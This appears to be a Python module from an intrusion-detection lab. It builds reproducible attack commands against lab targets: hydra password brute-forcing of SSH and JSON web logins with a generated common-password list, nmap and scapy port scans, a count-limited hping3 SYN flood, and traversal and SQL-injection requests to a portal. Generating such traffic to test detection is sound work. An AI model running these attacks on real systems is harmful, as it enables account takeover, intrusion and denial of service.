"""Attack builders: each returns an `Attack` (argv, workdir, files) for a lab target; nothing runs."""

from __future__ import annotations

import random
import re
import shlex
import subprocess
import sys
import time
from collections import Counter
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from ids.attacks.packets import PAYLOADS, SCAN_FLAGS, parse_ports
from ids.attacks.target import AttackError as AttackError
from ids.attacks.target import check_target as check_target

Runner = Callable[[str], str]  # e.g. a Mininet node's `cmd`
WEB_PORTS = {"oa": 8080, "approval": 8081}
_WORDS = (
    "123456",
    "password",
    "qwerty",
    "letmein",
    "welcome",
    "admin",
    "dragon",
    "monkey",
    "sunshine",
    "master",
    "shadow",
    "football",
    "iloveyou",
    "princess",
    "trustno1",
    "baseball",
    "superman",
    "hello",
    "charlie",
    "donald",
    "zhangwei",
    "weihai",
    "gov2026",
    "spring",
    "summer",
    "autumn",
    "winter",
    "office",
    "approval",
)
_SUFFIXES = ("", "1", "123", "!", "2025", "2026", "@1", "#", "88", "666")
_ATTEMPT = re.compile(r'^\[(?P<re>RE-)?ATTEMPT\] target \S+ - login "(?P<user>.*)" - pass "(?P<pw>.*)" - ')
_FOUND = re.compile(r"^\[\d+\]\[[\w-]+\] host: \S+\s+login: (?P<user>.*?)\s+password: (?P<pw>.*)$")


@dataclass(frozen=True)
class AttackResult:
    attack: Attack
    output: str
    returncode: int | None  # None when a runner (node.cmd) gives only the output
    started: float
    ended: float

    def hydra_attempts(self, *, retries: bool = False) -> Counter[str]:
        """Tries hydra reported (`-V`) per login name: first tries (`[ATTEMPT]`), or with
        `retries=True` only its `[RE-ATTEMPT]`s (a try repeated after a connection error)."""
        out: Counter[str] = Counter()
        for line in self.output.splitlines():
            m = _ATTEMPT.match(line)
            if m and (m["re"] is not None) == retries:
                out[m["user"]] += 1
        return out

    def hydra_found(self) -> list[tuple[str, str]]:
        """(login, password) pairs hydra reported as valid."""
        return [
            (m["user"], m["pw"]) for line in self.output.splitlines() if (m := _FOUND.match(line.strip()))
        ]


@dataclass(frozen=True)
class Attack:
    """One reproducible attack: argv run in `workdir` after writing `files` there."""

    name: str
    target: str
    argv: tuple[str, ...]
    workdir: Path | None = None
    files: tuple[tuple[str, str], ...] = ()
    timeout: float = 300.0
    notes: dict[str, Any] = field(default_factory=dict)

    def prepare(self) -> None:
        if self.files and self.workdir is None:
            raise AttackError(f"{self.name}: generated files need a workdir")
        if self.workdir is not None:
            self.workdir.mkdir(parents=True, exist_ok=True)
            for rel, text in self.files:
                (self.workdir / rel).write_text(text)

    def command(self) -> str:
        """The shell command for a runner such as `node.cmd`."""
        cmd = shlex.join(self.argv)
        return f"cd {shlex.quote(str(self.workdir))} && {cmd}" if self.workdir is not None else cmd

    def run(self, runner: Runner | None = None) -> AttackResult:
        """Write the files, run it (here, or through `runner`), return its output."""
        self.prepare()
        t0 = time.time()
        if runner is not None:
            return AttackResult(self, runner(self.command()), None, t0, time.time())
        r = subprocess.run(
            list(self.argv),
            cwd=self.workdir,
            capture_output=True,
            text=True,
            timeout=self.timeout,
            check=False,
        )
        return AttackResult(self, r.stdout + r.stderr, r.returncode, t0, time.time())


def wordlist(size: int, seed: int, include: Sequence[tuple[str, int]] = ()) -> list[str]:
    """`size` guessable passwords in a seeded order; `include` puts (password, index) pairs in place."""
    if size < 1:
        raise AttackError(f"a word list needs at least one word (got {size})")
    rng = random.Random(seed)
    pool = sorted({w + s for w in _WORDS for s in _SUFFIXES})
    rng.shuffle(pool)
    words = [w for w in pool if w not in {p for p, _ in include}][:size]
    for pw, index in sorted(include, key=lambda x: x[1]):
        words.insert(min(max(index, 0), len(words)), pw)
    return words[: max(size, len(include))]


def _lists(users: Sequence[str], words: Sequence[str]) -> tuple[tuple[str, str], ...]:
    if not users:
        raise AttackError("give the lab account names to guess")
    return (("users.txt", "\n".join(users) + "\n"), ("passwords.txt", "\n".join(words) + "\n"))


def _hydra(tasks: int, *args: str) -> tuple[str, ...]:
    """hydra over the word lists `_lists` writes, with `-t tasks` parallel tasks, then `args`."""
    return ("hydra", "-L", "users.txt", "-P", "passwords.txt", "-t", str(tasks), *args)


def hydra_ssh(
    target: str,
    workdir: str | Path,
    users: Sequence[str],
    *,
    port: int = 22,
    passwords: Sequence[str] | None = None,
    size: int = 20,
    seed: int = 0,
    tasks: int = 4,
    wait_s: int = 5,
    allow_public: bool = False,
) -> Attack:
    """hydra against a lab sshd: fixed `users`, a generated (or given) word list, `-t tasks`.
    `wait_s` is hydra's `-w`: when sshd drops a connection at MaxAuthTries, hydra's ssh module waits
    that long for an answer (its default, 32 s, stalls a lab)."""
    t = check_target(target, allow_public=allow_public)
    words = list(passwords) if passwords is not None else wordlist(size, seed)
    host = f"[{t}]" if ":" in t else t
    argv = _hydra(tasks, "-w", str(wait_s), "-V", "-I")
    return Attack(
        "hydra-ssh",
        t,
        (*argv, "-s", str(port), "-o", "found.txt", f"ssh://{host}"),
        Path(workdir),
        _lists(users, words),
        notes={"users": list(users), "passwords": len(words), "seed": seed},
    )


def hydra_web(
    target: str,
    workdir: str | Path,
    users: Sequence[str],
    *,
    service: str = "oa",
    port: int | None = None,
    passwords: Sequence[str] | None = None,
    size: int = 20,
    seed: int = 0,
    tasks: int = 4,
    allow_public: bool = False,
) -> Attack:
    """hydra http-post-form against the OA/approval `POST /login` ({"user", "password"} JSON; a
    reply with a `token` is a success, anything else — 401 wrong, 403 locked — a failure)."""
    if service not in WEB_PORTS:
        raise AttackError(f"web login service must be one of {sorted(WEB_PORTS)}, not {service!r}")
    t = check_target(target, allow_public=allow_public)
    words = list(passwords) if passwords is not None else wordlist(size, seed)
    form = '/login:{"user"\\:"^USER^","password"\\:"^PASS^"}:H=Content-Type\\: application/json:S=token'
    argv = _hydra(tasks, "-V", "-I", "-o", "found.txt")
    return Attack(
        f"hydra-web-{service}",
        t,
        (*argv, "-s", str(port or WEB_PORTS[service]), t, "http-post-form", form),
        Path(workdir),
        _lists(users, words),
        notes={"users": list(users), "passwords": len(words), "seed": seed},
    )


def nmap_scan(
    target: str,
    *,
    kind: str = "syn",
    ports: str = "1-1024",
    workdir: str | Path | None = None,
    allow_public: bool = False,
) -> Attack:
    """nmap SYN (`-sS`, root) or connect (`-sT`) scan, no ping, no DNS, ports in order (`-r`)."""
    flag = {"syn": "-sS", "connect": "-sT"}.get(kind)
    if flag is None:
        raise AttackError(f"nmap scan kind must be syn or connect, not {kind!r}")
    if not re.fullmatch(r"\d+(-\d+)?(,\d+(-\d+)?)*", ports):
        raise AttackError(f"nmap ports must look like 22,80,1000-2000 (got {ports!r})")
    t = check_target(target, allow_public=allow_public)
    argv = ["nmap", flag, "-Pn", "-n", "-r", "-p", ports, "--max-retries", "1", "-T4"]
    if ":" in t:
        argv.append("-6")
    return Attack(f"nmap-{kind}", t, (*argv, t), Path(workdir) if workdir else None)


def hping3_syn_flood(
    target: str, port: int, *, count: int, interval_us: int = 100, seed: int = 0, allow_public: bool = False
) -> Attack:
    """hping3 SYN flood, bounded by `count` packets (never `--flood`); seeded base source port."""
    if not 1 <= count <= 1_000_000:
        raise AttackError(f"a SYN flood needs a packet count of 1..1000000 (got {count})")
    if interval_us < 1:
        raise AttackError(f"interval_us must be >= 1 (got {interval_us})")
    t = check_target(target, allow_public=allow_public)
    base = random.Random(seed).randint(1024, 60_000)
    argv = (
        "hping3",
        "-S",
        "-p",
        str(port),
        "-s",
        str(base),
        "-c",
        str(count),
        "-i",
        f"u{interval_us}",
        "-q",
        t,
    )
    return Attack("hping3-syn-flood", t, argv, notes={"count": count, "base_sport": base})


def scapy_scan(
    target: str,
    *,
    kind: str = "syn",
    ports: str = "1-100",
    seed: int = 0,
    python: str = sys.executable,
    allow_public: bool = False,
) -> Attack:
    """scapy probes (`python -m ids.attacks scan`) of kind syn, null, xmas, fin or udp, seeded order."""
    if kind not in SCAN_FLAGS:
        raise AttackError(f"scan kind must be one of {', '.join(SCAN_FLAGS)}, not {kind!r}")
    parse_ports(ports)
    t = check_target(target, allow_public=allow_public)
    argv = (
        python,
        "-m",
        "ids.attacks",
        "scan",
        "--target",
        t,
        "--kind",
        kind,
        "--ports",
        ports,
        "--seed",
        str(seed),
    )
    return Attack(f"scapy-scan-{kind}", t, argv)


def scapy_web(
    target: str,
    *,
    port: int = WEB_PORTS["approval"],
    kinds: Sequence[str] = ("traversal", "sqli"),
    seed: int = 0,
    via: str = "socket",
    python: str = sys.executable,
    allow_public: bool = False,
) -> Attack:
    """Malicious requests to the approval portal (`python -m ids.attacks web`): over a real TCP
    connection (`via="socket"`, the portal answers), as lone crafted segments (`"raw"`), or both."""
    bad = [k for k in kinds if k not in PAYLOADS]
    if bad or not kinds:
        raise AttackError(f"payload kinds must be among {sorted(PAYLOADS)} (got {list(kinds)})")
    if via not in ("socket", "raw", "both"):
        raise AttackError(f"via must be socket, raw or both (got {via!r})")
    t = check_target(target, allow_public=allow_public)
    argv = (
        python,
        "-m",
        "ids.attacks",
        "web",
        "--target",
        t,
        "--port",
        str(port),
        "--kinds",
        ",".join(kinds),
        "--seed",
        str(seed),
        "--via",
        via,
    )
    return Attack("scapy-web", t, argv)
